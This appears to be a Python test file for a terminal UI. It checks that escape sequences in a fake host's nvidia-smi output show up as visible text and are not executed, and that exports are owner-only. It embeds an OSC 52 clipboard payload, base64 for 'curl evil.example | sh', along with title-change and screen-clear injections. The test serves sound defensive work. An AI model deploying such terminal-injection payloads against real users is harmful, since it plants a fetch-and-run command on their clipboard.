"""Issue 19 (item 3) on the TUI: a host whose nvidia-smi prints an OSC 52 clipboard write, a
title change and a screen clear shows them as visible characters on the host screen and its
raw probe output (``o``), and ctrl+s writes a report and session copy only its owner reads
(item 5: 0600 files in a 0700 dir)."""

from __future__ import annotations

import re
import stat
from pathlib import Path

from textual.widgets import Static

from tui.core import locations
from tui.core.hosts import Host
from tui.demo.fakehost import build_fake_host, reference_ct200
from tui.ui.screens.host import HostScreen
from tui.ui.widgets.redacted_log import RedactedLog

from .conftest import all_probed, make_app, settle

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"
TITLE = "\x1b]0;PWNED-TITLE\x07\x1b[2J"
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


async def test_escape_sequences_from_a_host_are_shown_not_acted_on(tmp_path: Path) -> None:
    fake = build_fake_host(tmp_path / "root", reference_ct200(with_cuda13=True))
    smi = fake.root / "usr/share/detective-tui-fake/nvidia-smi"
    (smi / "table.out").write_text(CLIPBOARD + TITLE + "\n" + (smi / "table.out").read_text())
    for name in ("query", "all"):  # the query call and the probe's one call of all fields
        query = (smi / f"{name}.out").read_text()
        (smi / f"{name}.out").write_text(query.replace("Server Edition", "Server Edition" + TITLE))
    host = Host(
        name="ct200",
        local=True,
        root=str(fake.root),
        python=tuple(fake.pythons),
        simulate="tree",  # a tree this test built: its nvidia-smi may run
    )
    app = make_app([host])
    exports = locations.state_dir() / "exports"
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.press("P")
        await settle(pilot, lambda: all_probed(app))
        app.push_screen(HostScreen("ct200"))
        await settle(pilot, lambda: isinstance(app.screen, HostScreen))
        await pilot.press("o")
        await pilot.pause()
        raw = "\n".join(app.screen.query_one("#output", RedactedLog).lines)
        assert "␛]0;PWNED-TITLE␇␛[2J" in raw  # the lines arrived, visible
        assert not RAW.search(raw)
        for tab in ("tab-findings", "tab-replay", "tab-fixes", "tab-output"):
            app.screen.action_show_tab(tab)
            await pilot.pause()
            for widget in app.screen.query(Static):
                assert not RAW.search(str(widget.render())), (tab, widget.id)
        await pilot.press("ctrl+s")
        await settle(pilot, lambda: exports.is_dir() and len(list(exports.iterdir())) == 2)
    assert stat.S_IMODE(exports.stat().st_mode) == 0o700
    for path in exports.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert not RAW.search(path.read_text()), path
